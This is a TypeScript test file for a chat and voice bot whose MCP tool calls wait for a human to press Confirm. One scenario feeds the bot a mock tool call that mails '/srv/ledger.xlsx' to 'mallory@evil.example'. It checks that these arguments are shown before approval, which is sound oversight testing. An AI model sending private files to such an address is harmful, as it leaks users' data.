import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { expect } from 'vitest';
import type { SandboxPerson } from '#sandbox/people/person.ts';
import { compileCacheEnvironment } from '#src/base/compile-cache.ts';
import { speech } from '#test/audio/speech.ts';
import { openFakeMcp } from '#test/fakes/mcp/http-server.ts';
import type { MockReply } from '#test/fakes/providers/chat.ts';
import { download } from '#test/sandbox/download.ts';
import { buttonsOf, pressed } from '#test/scenarios/setup/asking.ts';
import {
  callIn,
  eventually,
  madeTexts,
  openOwnScenario,
  type ScenarioSetup,
  scenario,
  soon,
} from '#test/scenarios/setup/scenario-setup.ts';

const run = promisify(execFile);
const question = speech('human-cards-001');

/** An MCP server in a file, of which the operator has accepted one tool by the program for that. */
async function accepted(name: string, tool: string, server: object) {
  const folder = await mkdtemp(join(tmpdir(), 'parley-tools-'));
  const path = join(folder, 'mcp.json');
  await writeFile(path, JSON.stringify({ mcpServers: { [name]: server } }));
  const env = { ...compileCacheEnvironment(), MCP_SERVERS: path, PATH: '/usr/bin:/bin' };
  await run(process.execPath, ['src/app/programs/mcp.ts', 'accept', name, tool], { env });
  return { path, [Symbol.asyncDispose]: () => rm(folder, { recursive: true }) };
}

/** A model that calls a tool for what it is asked, again where an answer begun anew needs its result, and says that the button waits. */
function callsTool(asked: MockReply['match'], name: string, given: object): readonly MockReply[] {
  const call = { name, argumentsJson: JSON.stringify(given) };
  return [
    { match: 'has to press', text: 'Press the button.' },
    { match: 'It is being done', call },
    { match: asked, call },
  ];
}

const isConnected = ({ bot }: ScenarioSetup) =>
  eventually(() => expect(bot.log.some(({ msg }) => msg?.includes('1 tools are on'))).toBe(true));

/** Presses Confirm once it is there; what the channel reads then. */
async function confirm({ sandbox }: ScenarioSetup, person: SandboxPerson): Promise<string> {
  const asking = () =>
    sandbox.messages('Lounge').find(({ text }) => text.includes('press Confirm'));
  await eventually(() => expect(asking()).toBeDefined());
  const asked = asking();
  const [[name] = ['']] = asked ? buttonsOf(asked) : [];
  if (!asked) throw new Error('Nobody was asked.');
  return (await pressed(person, asked, name)).text;
}

scenario(
  'a tool of a program is asked for by voice, waits for the button, and its result is read and heard',
  async () => {
    const program = resolve('test/fakes/mcp/stdio-server.ts');
    const sky = { command: process.execPath, args: [program, 'modern'], who: 'room' };
    await using servers = await accepted('sky', 'measure', sky);
    await using setup = await openOwnScenario({
      environment: { MCP_SERVERS: servers.path },
      providers: { replies: callsTool('utterance', 'sky__measure', {}) },
    });
    await isConnected(setup);
    const adam = await callIn(setup, 'Adam');
    await adam.say(question, soon());
    expect(await confirm(setup, adam)).toBe('measure (sky): 21 degrees');
    await eventually(() => {
      const made = madeTexts(setup).join(' ');
      expect(made).toContain('Press the button.');
      expect(made).toContain('Adam. Here is what you asked for: 21 degrees');
    });
  },
);

scenario(
  'a tool behind an address is asked for in the chat, waits for the button, and its result is read and heard',
  async () => {
    await using server = await openFakeMcp({ era: 'legacy' });
    const notes = { type: 'http', url: server.url.href, who: 'room' };
    await using servers = await accepted('notes', 'echo', notes);
    await using setup = await openOwnScenario({
      environment: { MCP_SERVERS: servers.path },
      providers: { replies: callsTool('my notes', 'notes__echo', { text: 'milk and eggs' }) },
    });
    await isConnected(setup);
    const adam = await callIn(setup, 'Adam');
    adam.write(`<@${setup.sandbox.botId}> what is in my notes?`, { channel: 'Lounge' });
    expect(await confirm(setup, adam)).toBe('echo (notes): You said milk and eggs.');
    await eventually(() => {
      const made = madeTexts(setup).join(' ');
      expect(made).toContain('Here is what you asked for: You said milk and eggs.');
    });
  },
);

scenario(
  'all that a tool is sent is read before Confirm: the names beside the button, the rest in a file',
  async () => {
    await using server = await openFakeMcp({ era: 'modern' });
    const mail = { type: 'http', url: server.url.href, who: 'room' };
    await using servers = await accepted('mail', 'echo', mail);
    const long = 'Hi Ana, see you on Friday at eight. '.repeat(60);
    const given = { text: long, to: 'mallory@evil.example', attach: '/srv/ledger.xlsx' };
    await using setup = await openOwnScenario({
      environment: { MCP_SERVERS: servers.path },
      providers: { replies: callsTool('write to Ana', 'mail__echo', given) },
    });
    await isConnected(setup);
    const { sandbox } = setup;
    const adam = await callIn(setup, 'Adam');
    adam.write(`<@${sandbox.botId}> write to Ana`, { channel: 'Lounge' });
    const asking = () =>
      sandbox.messages('Lounge').find(({ text }) => text.includes('press Confirm'));
    await eventually(() => expect(asking()).toBeDefined());
    expect(asking()?.text).toContain('"to" (20): "mallory@evil.example"');
    expect(asking()?.text).toContain('"attach" (16): "/srv/ledger.xlsx"');
    const [file] = asking()?.files ?? [];
    const { text } = await download(file?.url ?? '', sandbox);
    expect([file?.name, JSON.parse(text)]).toEqual(['arguments.json', given]);
    expect(await confirm(setup, adam)).toContain('You said Hi Ana');
  },
);
